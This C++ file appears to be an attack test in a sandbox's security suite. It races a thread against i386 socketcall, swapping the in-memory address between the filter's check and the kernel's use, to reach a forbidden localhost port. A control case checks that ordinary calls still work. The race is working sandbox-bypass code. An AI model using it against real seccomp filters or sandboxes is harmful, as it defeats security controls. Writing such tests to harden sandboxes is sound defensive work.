// attack: socketcall-ipc-mux
// class: abi
// severity: high
// models: naive
// needs: x86
// trap: i386 socketcall has its sub-call's arguments in memory; another thread changes the address
//   pointer or the port between check and use: a race one level deeper.
// naive: Filters direct numbers only; or reads the words and lets the kernel read them again.
// kernel: sys_socketcall copies the words, then the sub-call copies the address (socketcall(2)).
// sealed: Words and address are copied into the slot, or the call is refused so that libc uses the
//   direct ones.
// source: moby default profile; seccomp/libseccomp#143; Watson, WOOT 2007
// time: 3000
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network allow tcp connect 127.0.0.1:$OK_TCP
// report: none
#include <atomic>
#include <thread>

#include "tests/support/int80.h"

namespace attack {
namespace {

// True when a connect reached the bad port; *good counts the others.
bool race(int good_port, int bad_port, long* good, bool* refused) {
  char* low = low_memory();
  auto* socket_words = reinterpret_cast<uint32_t*>(low);
  auto* words = reinterpret_cast<volatile uint32_t*>(low + 256);
  sockaddr_in address = v4("127.0.0.1", good_port);
  std::memcpy(low + 512, &address, sizeof address);
  address = v4("127.0.0.1", bad_port);
  std::memcpy(low + 768, &address, sizeof address);
  socket_words[0] = AF_INET;
  socket_words[1] = SOCK_STREAM;
  socket_words[2] = 0;
  words[1] = word(low + 512);
  words[2] = sizeof address;
  std::atomic<bool> stop{false};
  std::thread other([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      words[1] = word(low + 768);
      words[1] = word(low + 512);
    }
  });
  bool won = false;
  for (Stopwatch watch; watch.running() && !won && *good < 2000;) {
    auto s = static_cast<int>(int80(102, 1, word(socket_words)));
    if (s < 0) {
      *refused = s == -ENOSYS || s == -EACCES || s == -EPERM;
      s = ::socket(AF_INET, SOCK_STREAM, 0);
    }
    words[0] = static_cast<uint32_t>(s);
    if (int80(102, 3, word(low + 256)) == 0) {
      sockaddr_in peer{};
      socklen_t length = sizeof peer;
      ::getpeername(s, as_sockaddr(peer), &length);
      if (bad_port != good_port && ntohs(peer.sin_port) == bad_port) won = true;
      ++*good;
    }
    ::close(s);
  }
  stop = true;
  other.join();
  return won;
}

}  // namespace

void strike() {
  need_32_bit_calls();
  long good = 0;
  bool refused = false;
  if (race(number("ATTACK_OK_TCP"), number("ATTACK_TCP"), &good, &refused)) {
    prey_taken("connected to the forbidden port");
  }
  std::printf("connected %ld\n", good);
  errno = 0;
  held("socketcall");
}

void twin() {
  need_32_bit_calls();
  long good = 0;
  bool refused = false;
  int port = number("ATTACK_OK_TCP");
  race(port, port, &good, &refused);
  must(good > 20 || refused, "socketcall works, or is refused so that libc does without");
  twin_ok();
}

}  // namespace attack
